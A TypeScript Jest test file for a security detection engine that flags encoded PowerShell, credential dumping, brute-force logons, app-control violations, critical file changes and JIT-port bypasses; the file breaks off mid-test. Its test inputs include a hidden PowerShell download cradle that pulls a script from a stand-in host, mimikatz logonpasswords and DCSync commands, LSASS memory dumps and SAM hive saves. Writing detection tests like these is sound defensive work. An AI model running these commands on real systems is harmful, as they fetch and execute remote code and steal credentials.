import {
  parseTelemetryRecord,
  type FileRecord,
  type FlowRecord,
  type LogonRecord,
  type ProcessRecord,
  type TelemetryRecord,
} from "../telemetry/telemetry.model";
import {
  classifyCriticalFile,
  detect,
  type Detection,
  type DetectionContext,
  type DetectionKind,
} from "./detections";

const DEV = "9f525b04-47c3-487a-9b37-e8d8124d8161"; // vm-dev-02 (Windows)
const RUNNER = "8708e8d1-b175-4ff3-bc87-d6f2d3d84d86"; // ci-runner-02 (Debian)
const WEB = "3dafd86a-82f7-47d7-8018-63f28fe05d5d"; // vm-web-prod-01 (Ubuntu)
const HOSTS: Record<string, string> = {
  [DEV]: "vm-dev-02",
  [RUNNER]: "ci-runner-02",
  [WEB]: "vm-web-prod-01",
};
const SHA = "92804faaab2175dc501d73e814663058c78c0a042675a8937266357bcfb96c50";
const T0 = Date.parse("2025-01-15T06:12:00.000Z");
const PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

let seq = 0;
/** Builds a record through the validator, so every test input is a record an agent could send. */
function make<T extends TelemetryRecord>(kind: T["kind"], fields: Record<string, unknown>): T {
  const resourceId = (fields.resourceId as string | undefined) ?? DEV;
  const result = parseTelemetryRecord({
    kind,
    id: `r-${++seq}`,
    resourceId,
    host: HOSTS[resourceId] ?? "vm-test-01",
    time: new Date(T0).toISOString(),
    ...fields,
  });
  if ("reason" in result) throw new Error(`invalid test record: ${result.reason}`);
  return result.record as T;
}
const at = (seconds: number) => new Date(T0 + seconds * 1000).toISOString();
const proc = (f: Record<string, unknown>) =>
  make<ProcessRecord>("process", { pid: 4242, user: "VM-DEV-02\\contosoadmin", ...f });
const logon = (f: Record<string, unknown>) => make<LogonRecord>("logon", f);
const flow = (f: Record<string, unknown>) =>
  make<FlowRecord>("flow", {
    direction: "inbound",
    protocol: "TCP",
    dstIp: "10.2.1.5",
    action: "allowed",
    ...f,
  });
const file = (f: Record<string, unknown>) => make<FileRecord>("file", { action: "modified", ...f });
const enc = (script: string) => Buffer.from(script, "utf16le").toString("base64");

const NO_CONTEXT: DetectionContext = {
  jitLockedPorts: () => [],
  appControlAllows: () => null,
  isCriticalPath: () => false,
};

const ofKind = (detections: Detection[], kind: DetectionKind) => detections.filter((d) => d.kind === kind);
const only = (detections: Detection[], kind: DetectionKind): Detection => {
  const list = ofKind(detections, kind);
  expect(list).toHaveLength(1);
  return list[0];
};

/** `n` failed logons from `srcIp`, `spacing` seconds apart. */
function failures(n: number, spacing: number, f: Record<string, unknown> = {}): LogonRecord[] {
  return Array.from({ length: n }, (_, i) =>
    logon({
      resourceId: RUNNER,
      user: ["root", "admin", "ubuntu"][i % 3],
      logonType: "ssh",
      srcIp: "192.0.2.45",
      success: false,
      failureReason: "invalid user",
      time: at(i * spacing),
      ...f,
    }),
  );
}

describe("encoded PowerShell", () => {
  const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-update.example.net/ms/upd.ps1')";

  it("raises HIGH for a download cradle, with the decoded command as evidence", () => {
    const p = proc({
      image: PS,
      commandLine: `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${enc(cradle)}`,
      sha256: SHA,
      parentImage: "C:\\Windows\\System32\\cmd.exe",
    });
    const d = only(detect([p], NO_CONTEXT), "encoded-powershell");
    expect(d).toMatchObject({
      sourceId: `encoded-powershell:${DEV}:${p.id}`,
      title: "Suspicious encoded PowerShell command on vm-dev-02",
      severity: "HIGH",
      tactics: ["Execution", "DefenseEvasion"],
      techniques: ["T1059.001", "T1027"],
      resourceId: DEV,
      startTime: p.time,
      endTime: p.time,
    });
    expect(d.description).toContain("download cradle");
    expect(d.entities).toEqual([
      { type: "HOST", value: "vm-dev-02" },
      { type: "ACCOUNT", value: "VM-DEV-02\\contosoadmin" },
      { type: "PROCESS", value: PS },
      { type: "FILE_HASH", value: SHA },
      { type: "URL", value: "http://cdn-update.example.net/ms/upd.ps1" },
      { type: "DOMAIN", value: "cdn-update.example.net" },
    ]);
    expect(d.evidence).toMatchObject({
      recordId: p.id,
      parameter: "-Enc",
      decodedCommand: cradle,
      decodedTruncated: false,
      downloadIndicators: ["Net.WebClient", "DownloadString", "IEX"],
      urls: ["http://cdn-update.example.net/ms/upd.ps1"],
      parentImage: "C:\\Windows\\System32\\cmd.exe",
    });
  });

  it.each<[string, Record<string, unknown>, "HIGH" | "MEDIUM"]>([
    [
      "-e with Invoke-WebRequest",
      { image: PS, commandLine: `powershell -e ${enc("iwr http://x.example/a -OutFile a.exe")}` },
      "HIGH",
    ],
    [
      "/ec with a benign script",
      { image: PS, commandLine: `powershell.exe /ec ${enc("Get-Service | Export-Csv s.csv")}` },
      "MEDIUM",
    ],
    [
      "pwsh on Linux",
      { image: "/usr/bin/pwsh", user: "root", commandLine: `pwsh -EncodedCommand ${enc("Get-Date")}` },
      "MEDIUM",
    ],
    ["a payload that is not base64", { image: PS, commandLine: "powershell.exe -enc AAAA%%%" }, "MEDIUM"],
  ])("fires on %s (%s)", (_name, fields, severity) => {
    expect(only(detect([proc(fields)], NO_CONTEXT), "encoded-powershell").severity).toBe(severity);
  });

  it("does not advise resetting the password of a built-in service identity", () => {
    const p = proc({
      image: PS,
      user: "NT AUTHORITY\\SYSTEM",
      commandLine: `powershell -enc ${enc("Get-Date")}`,
    });
    const d = only(detect([p], NO_CONTEXT), "encoded-powershell");
    expect(d.remediation.join(" ")).not.toMatch(/reset/i);
  });

  it("keeps the reason when the payload cannot be decoded", () => {
    const d = only(
      detect([proc({ image: PS, commandLine: "powershell.exe -enc AAAA%%%" })], NO_CONTEXT),
      "encoded-powershell",
    );
    expect(d.evidence).toMatchObject({ decodedCommand: null, decodeError: "payload is not valid base64" });
  });

  it("bounds the evidence", () => {
    const big = `${"Write-Output 'x'; ".repeat(500)}`;
    const d = only(
      detect([proc({ image: PS, commandLine: `powershell -enc ${enc(big)}` })], NO_CONTEXT),
      "encoded-powershell",
    );
    expect((d.evidence.decodedCommand as string).length).toBe(4096);
    expect(d.evidence.decodedTruncated).toBe(true);
    expect((d.evidence.commandLine as string).length).toBeLessThanOrEqual(4097);
  });

  it.each<[string, Record<string, unknown>]>([
    [
      "-ExecutionPolicy Bypass -File",
      { image: PS, commandLine: "powershell.exe -ExecutionPolicy Bypass -File C:\\Ops\\x.ps1" },
    ],
    [
      "-e passed to a script",
      { image: PS, commandLine: `powershell.exe -File C:\\Ops\\x.ps1 -e ${enc("x")}` },
    ],
    [
      "-enc inside -Command",
      { image: PS, commandLine: `powershell.exe -Command "& { tool.exe -enc ${enc("x")} }"` },
    ],
    ["-ep (ExecutionPolicy)", { image: PS, commandLine: `powershell.exe -ep ${enc("x")}` }],
    ["-EncodedArguments", { image: PS, commandLine: `powershell.exe -EncodedArguments ${enc("x")}` }],
    [
      "another program with -enc",
      { image: "C:\\Tools\\openssl.exe", commandLine: `openssl.exe enc -e -base64 ${enc("x")}` },
    ],
  ])("does not fire on %s", (_name, fields) => {
    expect(detect([proc(fields)], NO_CONTEXT)).toEqual([]);
  });
});

describe("credential dumping", () => {
  const SYS32 = "C:\\Windows\\System32";
  it.each<[string, Record<string, unknown>, string, string[], string]>([
    [
      "mimikatz by name",
      { image: "C:\\Users\\Public\\mimikatz.exe", commandLine: "mimikatz.exe" },
      "mimikatz",
      ["T1003", "T1003.001"],
      "Credential theft tool Mimikatz ran on vm-dev-02",
    ],
    [
      "a renamed mimikatz by its commands",
      {
        image: "C:\\Users\\Public\\m64.exe",
        commandLine: 'm64.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
      },
      "mimikatz",
      ["T1003", "T1003.001"],
      "Credential theft tool Mimikatz ran on vm-dev-02",
    ],
    [
      "mimikatz dumping the SAM",
      { image: "C:\\Temp\\x.exe", commandLine: "x.exe lsadump::sam exit" },
      "mimikatz",
      ["T1003", "T1003.001", "T1003.002"],
      "Credential theft tool Mimikatz ran on vm-dev-02",
    ],
    [
      "mimikatz DCSync",
      { image: "C:\\Temp\\x.exe", commandLine: 'x.exe "lsadump::dcsync /user:krbtgt"' },
      "mimikatz",
      ["T1003", "T1003.001", "T1003.006"],
      "Credential theft tool Mimikatz ran on vm-dev-02",
    ],
    [
      "a binary signed by gentilkiwi",
      {
        image: "C:\\Temp\\tool.exe",
        commandLine: "tool.exe",
        publisher: "Open Source Developer, Benjamin Delpy",
      },
      "mimikatz",
      ["T1003", "T1003.001"],
      "Credential theft tool Mimikatz ran on vm-dev-02",
    ],
    [
      "Invoke-Mimikatz in an encoded command",
      {
        image: PS,
        commandLine: `powershell -enc ${Buffer.from("Invoke-Mimikatz -DumpCreds", "utf16le").toString("base64")}`,
      },
      "mimikatz",
      ["T1003", "T1003.001"],
      "Credential theft tool Mimikatz ran on vm-dev-02",
    ],
    [
      "procdump against lsass",
      {
        image: "C:\\Tools\\procdump64.exe",
        commandLine: "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp",
      },
      "procdump-lsass",
      ["T1003", "T1003.001"],
      "LSASS process memory dumped on vm-dev-02",
    ],
    [
      "a renamed procdump against lsass",
      { image: "C:\\Temp\\pd.exe", commandLine: "pd.exe -ma lsass C:\\Temp\\out.dmp" },
      "procdump-lsass",
      ["T1003", "T1003.001"],
      "LSASS process memory dumped on vm-dev-02",
    ],
    [
      "comsvcs.dll MiniDump",
      {
        image: `${SYS32}\\rundll32.exe`,
        commandLine:
          "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Windows\\Temp\\l.dmp full",
      },
      "comsvcs-minidump",
      ["T1003", "T1003.001"],
      "LSASS memory dumped with comsvcs.dll on vm-dev-02",
    ],
    [
      "comsvcs.dll by ordinal",
      { image: `${SYS32}\\rundll32.exe`, commandLine: "rundll32 comsvcs.dll #24 672 l.dmp full" },
      "comsvcs-minidump",
      ["T1003", "T1003.001"],
      "LSASS memory dumped with comsvcs.dll on vm-dev-02",
    ],
    [
      "reg save HKLM\\SAM",
      { image: `${SYS32}\\reg.exe`, commandLine: "reg save HKLM\\SAM C:\\Users\\Public\\s.hiv /y" },
      "registry-hive-save",
      ["T1003", "T1003.002"],
      "Registry hive HKLM\\SAM saved to disk on vm-dev-02",
    ],
    [
      "reg.exe save HKLM\\SECURITY",
      { image: `${SYS32}\\reg.exe`, commandLine: `"${SYS32}\\reg.exe" save hklm\\security sec.save` },
      "registry-hive-save",
      ["T1003", "T1003.004"],
      "Registry hive HKLM\\SECURITY saved to disk on vm-dev-02",
    ],
    [
      "reg save through cmd with the long hive name",
      {
        image: `${SYS32}\\cmd.exe`,
        commandLine: 'cmd.exe /c reg save "HKEY_LOCAL_MACHINE\\SYSTEM" C:\\t\\sys',
      },
      "registry-hive-save",
      ["T1003", "T1003.002"],
      "Registry hive HKLM\\SYSTEM saved to disk on vm-dev-02",
    ],
  ])("fires on %s", (_name, fields, method, techniques, title) => {
    const p = proc(fields);
    const d = only(detect([p], NO_CONTEXT), "credential-dumping");
    expect(d).toMatchObject({
      sourceId: `credential-dumping:${DEV}:${p.id}`,
      severity: "HIGH",
      title,
      tactics: ["CredentialAccess"],
      techniques,
      evidence: expect.objectContaining({ method, recordId: p.id }),
    });
    expect(d.entities).toEqual(
      expect.arrayContaining([
        { type: "HOST", value: "vm-dev-02" },
        { type: "ACCOUNT", value: "VM-DEV-02\\contosoadmin" },
        { type: "PROCESS", value: p.image },
      ]),
    );
  });

  it.each<[string, Record<string, unknown>]>([
    [
      "notes that mention mimikatz",
      { image: `${SYS32}\\notepad.exe`, commandLine: "notepad.exe C:\\notes\\mimikatz-detection.txt" },
    ],
    [
      "listing lsass",
      { image: `${SYS32}\\tasklist.exe`, commandLine: 'tasklist /fi "imagename eq lsass.exe"' },
    ],
    [
      "procdump of another process",
      { image: "C:\\Tools\\procdump64.exe", commandLine: "procdump64.exe -ma w3wp.exe C:\\Temp\\w3wp.dmp" },
    ],
    [
      "saving another hive",
      { image: `${SYS32}\\reg.exe`, commandLine: "reg save HKLM\\SOFTWARE\\Contoso C:\\backup\\contoso.hiv" },
    ],
    [
      "saving a SYSTEM subkey",
      {
        image: `${SYS32}\\reg.exe`,
        commandLine: "reg save HKLM\\SYSTEM\\CurrentControlSet\\Services\\W3SVC w3svc.hiv",
      },
    ],
    ["querying the SAM", { image: `${SYS32}\\reg.exe`, commandLine: "reg query HKLM\\SAM" }],
    [
      "other rundll32 use",
      { image: `${SYS32}\\rundll32.exe`, commandLine: "rundll32.exe shell32.dll,Control_RunDLL desk.cpl" },
    ],
  ])("does not fire on %s", (_name, fields) => {
    expect(ofKind(detect([proc(fields)], NO_CONTEXT), "credential-dumping")).toEqual([]);
  });
});

describe("brute force on management ports", () => {
  it("raises MEDIUM for 20 failed SSH logons within 10 minutes", () => {
    const records = failures(20, 30); // 9.5 minutes
    const d = only(detect(records, NO_CONTEXT), "brute-force");
    expect(d).toMatchObject({
      sourceId: `brute-force:${RUNNER}:192.0.2.45:2025-01-15T06:10:00.000Z`,
      title: "Failed SSH brute force attack on ci-runner-02",
      severity: "MEDIUM",
      tactics: ["CredentialAccess"],
      techniques: ["T1110", "T1110.001"],
      startTime: at(0),
      endTime: at(19 * 30),
      entities: [
        { type: "HOST", value: "ci-runner-02" },
        { type: "IP", value: "192.0.2.45" },
      ],
    });
    expect(d.evidence).toMatchObject({
      sourceIp: "192.0.2.45",
      failedLogons: 20,
      distinctUsers: 3,
      users: ["root", "admin", "ubuntu"],
      logonTypes: ["ssh"],
      successfulLogon: null,
    });
    expect(d.evidence.recordIds).toEqual(records.map((r) => r.id));
  });

  it("raises HIGH when a logon from the same address succeeds within the window", () => {
    const records = [
      ...failures(30, 11),
      logon({
        resourceId: RUNNER,
        user: "admin",
        logonType: "ssh",
        srcIp: "192.0.2.45",
        success: true,
        time: at(365),
      }),
    ];
    const d = only(detect(records, NO_CONTEXT), "brute-force");
    expect(d).toMatchObject({
      title: "Successful SSH brute force attack on ci-runner-02",
      severity: "HIGH",
      tactics: ["CredentialAccess", "InitialAccess"],
      techniques: ["T1110", "T1110.001", "T1078"],
      endTime: at(365),
    });
    expect(d.entities).toContainEqual({ type: "ACCOUNT", value: "admin" });
    expect(d.evidence.successfulLogon).toMatchObject({ user: "admin", logonType: "ssh" });
    expect(d.description).toContain("probably compromised");
  });

  it.each<[string, LogonRecord[]]>([
    [
      "from another address",
      [
        logon({
          resourceId: RUNNER,
          user: "admin",
          logonType: "ssh",
          srcIp: "10.21.0.23",
          success: true,
          time: at(600),
        }),
      ],
    ],
    [
      "more than a window after the attack",
      [
        logon({
          resourceId: RUNNER,
          user: "admin",
          logonType: "ssh",
          srcIp: "192.0.2.45",
          success: true,
          time: at(19 * 30 + 601),
        }),
      ],
    ],
    [
      "on another machine",
      [
        logon({
          resourceId: WEB,
          user: "admin",
          logonType: "ssh",
          srcIp: "192.0.2.45",
          success: true,
          time: at(600),
        }),
      ],
    ],
  ])("stays MEDIUM for a success %s", (_name, extra) => {
    expect(only(detect([...failures(20, 30), ...extra], NO_CONTEXT), "brute-force").severity).toBe("MEDIUM");
  });

  it.each<[string, string, string]>([
    ["remote_interactive", "RDP", "Failed RDP brute force attack on ci-runner-02"],
    ["network", "network logon", "Failed network logon brute force attack on ci-runner-02"],
  ])("names %s attacks %s", (logonType, _label, title) => {
    expect(only(detect(failures(25, 10, { logonType }), NO_CONTEXT), "brute-force").title).toBe(title);
  });

  it("labels password spraying (many accounts, one or two tries each)", () => {
    const spray = failures(20, 10).map((r, i) => ({ ...r, user: `user${i}` }));
    expect(only(detect(spray, NO_CONTEXT), "brute-force").techniques).toEqual(["T1110", "T1110.003"]);
  });

  it.each<[string, TelemetryRecord[]]>([
    ["19 failures", failures(19, 10)],
    ["20 failures over more than 10 minutes", failures(20, 32)],
    ["failed interactive (console) logons", failures(25, 10, { logonType: "interactive" })],
    ["failed service logons", failures(25, 10, { logonType: "service" })],
    ["failures without a source address", failures(25, 10, { srcIp: undefined })],
    [
      "10 failures from each of two addresses",
      [...failures(10, 10), ...failures(10, 10, { srcIp: "192.0.2.46" })],
    ],
    ["10 failures on each of two machines", [...failures(10, 10), ...failures(10, 10, { resourceId: WEB })]],
    ["successful logons only", failures(25, 10, { success: true, failureReason: undefined })],
  ])("does not fire on %s", (_name, records) => {
    expect(ofKind(detect(records, NO_CONTEXT), "brute-force")).toEqual([]);
  });

  const rdpFlows = (n: number, spacing: number, f: Record<string, unknown> = {}) =>
    Array.from({ length: n }, (_, i) =>
      flow({ srcIp: "198.51.100.203", srcPort: 50000 + i, dstPort: 3389, time: at(i * spacing), ...f }),
    );

  it("raises MEDIUM for 50 inbound connections to RDP within 10 minutes, allowed or denied", () => {
    const records = rdpFlows(50, 12).map((r, i) => ({
      ...r,
      action: i % 2 ? ("denied" as const) : r.action,
    }));
    const d = only(detect(records, NO_CONTEXT), "brute-force");
    expect(d).toMatchObject({
      title: "Possible RDP brute force attack on vm-dev-02",
      severity: "MEDIUM",
      techniques: ["T1110"],
      sourceId: `brute-force:${DEV}:198.51.100.203:2025-01-15T06:10:00.000Z`,
    });
    expect(d.evidence).toMatchObject({ inboundFlows: 50, deniedFlows: 25, ports: [3389], failedLogons: 0 });
  });

  it("counts SSH connections too", () => {
    expect(only(detect(rdpFlows(60, 5, { dstPort: 22 }), NO_CONTEXT), "brute-force").title).toBe(
      "Possible SSH brute force attack on vm-dev-02",
    );
  });

  it.each<[string, FlowRecord[]]>([
    ["49 connections", rdpFlows(49, 5)],
    ["50 connections over more than 10 minutes", rdpFlows(50, 13)],
    ["50 connections to HTTPS", rdpFlows(50, 5, { dstPort: 443 })],
    ["50 outbound connections", rdpFlows(50, 5, { direction: "outbound" })],
  ])("does not fire on %s", (_name, records) => {
    expect(ofKind(detect(records, NO_CONTEXT), "brute-force")).toEqual([]);
  });

  it("merges logons and connections of one attack into one alert", () => {
    const records = [
      ...failures(20, 15),
      ...rdpFlows(20, 15, { resourceId: RUNNER, srcIp: "192.0.2.45", dstPort: 22 }),
    ];
    const d = only(detect(records, NO_CONTEXT), "brute-force");
    expect(d.evidence).toMatchObject({ failedLogons: 20, inboundFlows: 20 });
  });

  it("raises one alert per burst: a long attack is one alert, bursts apart are two", () => {
    expect(ofKind(detect(failures(120, 15), NO_CONTEXT), "brute-force")).toHaveLength(1); // 30 minutes, no gap
    const later = failures(20, 10).map((r, i) => ({
      ...r,
      id: `late-${i}`,
      time: at(3600 + i * 10),
    }));
    const two = ofKind(detect([...failures(20, 10), ...later], NO_CONTEXT), "brute-force");
    expect(two.map((d) => d.sourceId)).toEqual([
      `brute-force:${RUNNER}:192.0.2.45:2025-01-15T06:10:00.000Z`,
      `brute-force:${RUNNER}:192.0.2.45:2025-01-15T07:10:00.000Z`,
    ]);
  });
});

describe("application control violations", () => {
  const allowOnlyUsr: DetectionContext = {
    ...NO_CONTEXT,
    appControlAllows: (resourceId, exe) =>
      resourceId === WEB
        ? exe.path.startsWith("/usr/")
        : resourceId === DEV
          ? !/[\\/]temp[\\/]/i.test(exe.path)
          : null,
  };
  const run = (image: string, seconds: number, f: Record<string, unknown> = {}) =>
    proc({ resourceId: WEB, user: "www-data", image, commandLine: image, time: at(seconds), ...f });

  it("raises one MEDIUM alert per machine and executable per hour", () => {
    const runs = [
      run("/tmp/.ICE-unix/kinsing", 0, { sha256: SHA }),
      run("/tmp/.ICE-unix/kinsing", 600),
      run("/tmp/.ICE-unix/kinsing", 1200),
    ];
    const d = only(detect([...runs, run("/usr/sbin/nginx", 5)], allowOnlyUsr), "app-control-violation");
    expect(d).toMatchObject({
      title: "Executable not allowed by application control ran on vm-web-prod-01",
      severity: "MEDIUM",
      tactics: ["Execution"],
      techniques: ["T1204"],
      startTime: at(0),
      endTime: at(1200),
      evidence: expect.objectContaining({
        image: "/tmp/.ICE-unix/kinsing",
        executions: 3,
        users: ["www-data"],
        sha256: [SHA],
      }),
    });
    expect(d.sourceId).toMatch(new RegExp(`^app-control:${WEB}:[0-9a-f]{16}:2025-01-15T06:00:00.000Z$`));
    expect(d.entities).toEqual([
      { type: "HOST", value: "vm-web-prod-01" },
      { type: "ACCOUNT", value: "www-data" },
      { type: "PROCESS", value: "/tmp/.ICE-unix/kinsing" },
      { type: "FILE_HASH", value: SHA },
    ]);
  });

  it("starts a new alert in the next hour and for another executable", () => {
    const records = [run("/tmp/a", 0), run("/tmp/a", 3600), run("/tmp/b", 10)];
    expect(ofKind(detect(records, allowOnlyUsr), "app-control-violation")).toHaveLength(3);
  });

  it("groups Windows paths case-insensitively", () => {
    const records = [
      proc({ image: "C:\\Users\\Public\\Temp\\x.exe", commandLine: "x.exe" }),
      proc({ image: "c:/users/public/temp/X.EXE", commandLine: "x.exe", time: at(60) }),
    ];
    expect(only(detect(records, allowOnlyUsr), "app-control-violation").evidence.executions).toBe(2);
  });

  it.each<[string, ProcessRecord]>([
    ["an allowed executable", run("/usr/bin/node", 0)],
    [
      "a machine without an app-control group",
      proc({ resourceId: RUNNER, image: "/tmp/.k", commandLine: "/tmp/.k" }),
    ],
  ])("does not fire on %s", (_name, record) => {
    expect(detect([record], allowOnlyUsr)).toEqual([]);
  });

  it("passes path, hash and publisher, and asks once per distinct executable", () => {
    const appControlAllows = jest.fn(() => false);
    const records = [
      run("/opt/x", 0, { sha256: SHA, publisher: "Contoso Ltd" }),
      run("/opt/x", 5, { sha256: SHA, publisher: "Contoso Ltd" }),
      run("/opt/y", 6),
    ];
    detect(records, { ...NO_CONTEXT, appControlAllows });
    expect(appControlAllows.mock.calls).toEqual([
      [WEB, { path: "/opt/x", sha256: SHA, publisher: "Contoso Ltd" }],
      [WEB, { path: "/opt/y" }],
    ]);
  });
});

describe("critical file changes", () => {
  const watched = new Set([
    "/etc/passwd",
    "/etc/shadow",
    "/etc/sudoers",
    "/etc/sudoers.d/90-cloud-init-users",
    "/home/admin/.ssh/authorized_keys",
    "/var/www/shop/index.html",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "C:\\ProgramData\\ssh\\administrators_authorized_keys",
  ]);
  const fim: DetectionContext = { ...NO_CONTEXT, isCriticalPath: (_id, path) => watched.has(path) };

  it.each<[string, "HIGH" | "MEDIUM", string[], string[], string]>([
    [
      "/etc/passwd",
      "HIGH",
      ["Persistence"],
      ["T1098"],
      "Account database /etc/passwd modified on ci-runner-02",
    ],
    [
      "/etc/shadow",
      "HIGH",
      ["Persistence"],
      ["T1098"],
      "Account database /etc/shadow modified on ci-runner-02",
    ],
    [
      "/etc/sudoers",
      "HIGH",
      ["Persistence", "PrivilegeEscalation"],
      ["T1098", "T1548.003"],
      "Sudo configuration /etc/sudoers modified on ci-runner-02",
    ],
    [
      "/etc/sudoers.d/90-cloud-init-users",
      "HIGH",
      ["Persistence", "PrivilegeEscalation"],
      ["T1098", "T1548.003"],
      "Sudo configuration /etc/sudoers.d/90-cloud-init-users modified on ci-runner-02",
    ],
    [
      "/home/admin/.ssh/authorized_keys",
      "HIGH",
      ["Persistence"],
      ["T1098", "T1098.004"],
      "SSH authorized keys /home/admin/.ssh/authorized_keys modified on ci-runner-02",
    ],
    [
      "C:\\ProgramData\\ssh\\administrators_authorized_keys",
      "HIGH",
      ["Persistence"],
      ["T1098", "T1098.004"],
      "SSH authorized keys C:\\ProgramData\\ssh\\administrators_authorized_keys modified on ci-runner-02",
    ],
    [
      "C:\\Windows\\System32\\drivers\\etc\\hosts",
      "HIGH",
      ["Impact"],
      ["T1565", "T1565.001"],
      "Hosts file C:\\Windows\\System32\\drivers\\etc\\hosts modified on ci-runner-02",
    ],
    [
      "/var/www/shop/index.html",
      "MEDIUM",
      ["Impact"],
      ["T1565", "T1565.001"],
      "Critical file /var/www/shop/index.html modified on ci-runner-02",
    ],
  ])("fires on %s", (path, severity, tactics, techniques, title) => {
    const f = file({ resourceId: RUNNER, path, user: "admin", sha256: SHA });
    const d = only(detect([f], fim), "critical-file-change");
    expect(d).toMatchObject({ severity, tactics, techniques, title, resourceId: RUNNER, startTime: f.time });
    expect(d.entities).toEqual([
      { type: "HOST", value: "ci-runner-02" },
      { type: "ACCOUNT", value: "admin" },
      { type: "FILE_HASH", value: SHA },
    ]);
    expect(d.evidence.changes).toEqual([
      expect.objectContaining({ recordId: f.id, action: "modified", path }),
    ]);
  });

  it("counts a rename away from a watched path", () => {
    const f = file({ resourceId: RUNNER, action: "renamed", path: "/tmp/p", previousPath: "/etc/passwd" });
    const d = only(detect([f], fim), "critical-file-change");
    expect(d.title).toBe("Account database /etc/passwd renamed on ci-runner-02");
    expect(d.evidence.path).toBe("/etc/passwd");
  });

  it("groups changes to one file within an hour", () => {
    const records = [
      file({ resourceId: RUNNER, path: "/etc/shadow", time: at(0) }),
      file({ resourceId: RUNNER, action: "deleted", path: "/etc/shadow", time: at(60) }),
      file({ resourceId: RUNNER, path: "/etc/shadow", time: at(3600) }),
    ];
    const list = ofKind(detect(records, fim), "critical-file-change");
    expect(list.map((d) => [d.title, (d.evidence.changes as unknown[]).length])).toEqual([
      ["Account database /etc/shadow changed on ci-runner-02", 2],
      ["Account database /etc/shadow modified on ci-runner-02", 1],
    ]);
  });

  it.each([["/var/log/nginx/access.log"], ["/etc/passwd-"], ["/home/admin/.ssh/known_hosts"]])(
    "does not fire on an unwatched path %s",
    (path) => {
      expect(detect([file({ resourceId: RUNNER, path })], fim)).toEqual([]);
    },
  );

  it("does not classify a file as sensitive unless the machine watches it", () => {
    expect(detect([file({ resourceId: RUNNER, path: "/etc/passwd" })], NO_CONTEXT)).toEqual([]);
    // The same change on a machine that watches the file is one.
    const watching: DetectionContext = { ...NO_CONTEXT, isCriticalPath: (_id, p) => p === "/etc/passwd" };
    expect(detect([file({ resourceId: RUNNER, path: "/etc/passwd" })], watching).map((d) => d.kind)).toEqual([
      "critical-file-change",
    ]);
  });

  it.each<[string, string]>([
    ["/etc/passwd", "accounts"],
    ["/etc/gshadow", "accounts"],
    ["/etc/passwd.bak", "other"],
    ["/etc/sudoers.d/admins", "sudoers"],
    ["/root/.ssh/authorized_keys2", "ssh-keys"],
    ["/etc/hosts", "hosts"],
    ["c:/windows/system32/drivers/etc/HOSTS", "hosts"],
    ["C:\\inetpub\\wwwroot\\web.config", "other"],
  ])("classifies %s as %s", (path, cls) => {
    expect(classifyCriticalFile(path)).toBe(cls);
  });
});

describe("traffic to a JIT-locked port", () => {
  const jit: DetectionContext = {
    ...NO_CONTEXT,
    jitLockedPorts: (id) =>
      id === DEV
        ? [
            { port: 3389, protocol: "TCP" },
            { port: 22, protocol: "TCP" },
          ]
        : [],
  };

  it("raises HIGH for an allowed inbound flow, grouped with the logon it carried", () => {
    const records = [
      flow({ srcIp: "198.51.100.66", srcPort: 50412, dstPort: 3389, bytes: 18_422_330, time: at(1) }),
      logon({
        user: "VM-DEV-02\\contosoadmin",
        logonType: "remote_interactive",
        srcIp: "198.51.100.66",
        success: true,
        time: at(20),
      }),
    ];
    const d = only(detect(records, jit), "jit-port-access");
    expect(d).toMatchObject({
      sourceId: `jit-port:${DEV}:TCP-3389:198.51.100.66:2025-01-15T06:00:00.000Z`,
      title: "Inbound traffic reached JIT-locked port 3389/TCP on vm-dev-02",
      severity: "HIGH",
      tactics: ["InitialAccess"],
      techniques: ["T1133"],
      startTime: at(1),
      endTime: at(20),
      entities: [
        { type: "HOST", value: "vm-dev-02" },
        { type: "IP", value: "198.51.100.66" },
        { type: "ACCOUNT", value: "VM-DEV-02\\contosoadmin" },
      ],
    });
    expect(d.evidence).toMatchObject({ allowedFlows: 1, bytes: 18_422_330, port: 3389, protocol: "TCP" });
  });

  it("fires on a successful SSH logon when 22 is locked", () => {
    const d = only(
      detect([logon({ user: "admin", logonType: "ssh", srcIp: "192.0.2.8", success: true })], jit),
      "jit-port-access",
    );
    expect(d.title).toBe("Inbound traffic reached JIT-locked port 22/TCP on vm-dev-02");
  });

  it.each<[string, TelemetryRecord]>([
    ["a denied flow", flow({ srcIp: "192.0.2.200", dstPort: 3389, action: "denied" })],
    [
      "an outbound flow",
      flow({ direction: "outbound", srcIp: "10.2.1.5", dstIp: "192.0.2.1", dstPort: 3389 }),
    ],
    ["a port that is not locked", flow({ srcIp: "192.0.2.200", dstPort: 443 })],
    ["the same port over UDP", flow({ protocol: "UDP", srcIp: "192.0.2.200", dstPort: 3389 })],
    ["a machine without JIT", flow({ resourceId: WEB, srcIp: "192.0.2.200", dstPort: 3389 })],
    ["a failed logon", logon({ user: "admin", logonType: "ssh", srcIp: "192.0.2.8", success: false })],
    ["a network logon", logon({ user: "admin", logonType: "network", srcIp: "192.0.2.8", success: true })],
    ["a console logon", logon({ user: "admin", logonType: "interactive", success: true })],
  ])("does not fire on %s", (_name, record) => {
    expect(detect([record], jit)).toEqual([]);
  });

  it("does not call traffic from before the port was locked a bypass (agents upload late)", () => {
    const lockedLater: DetectionContext = {
      ...NO_CONTEXT,
      jitLockedPorts: (id) =>
        id === DEV ? [{ port: 3389, protocol: "TCP", lockedSince: Date.parse(at(600)) }] : [],
    };
    const records = [
      flow({ srcIp: "198.51.100.66", dstPort: 3389, time: at(10) }),
      logon({
        user: "admin",
        logonType: "remote_interactive",
        srcIp: "198.51.100.66",
        success: true,
        time: at(20),
      }),
      flow({ srcIp: "198.51.100.66", dstPort: 3389, time: at(600) }),
    ];
    const d = only(detect(records, lockedLater), "jit-port-access");
    expect(d).toMatchObject({ startTime: at(600), endTime: at(600) });
    expect(d.evidence).toMatchObject({ allowedFlows: 1 });
  });

  it("does not judge again the stored records brute force looks back at (a grant since ended covered them)", () => {
    // The lookback holds the session JIT granted ten seconds ago; its grant has ended since, so the
    // context no longer knows it. Only the new connection is a bypass.
    const granted = flow({ id: "granted-1", srcIp: "203.0.113.24", dstPort: 3389, time: at(10) });
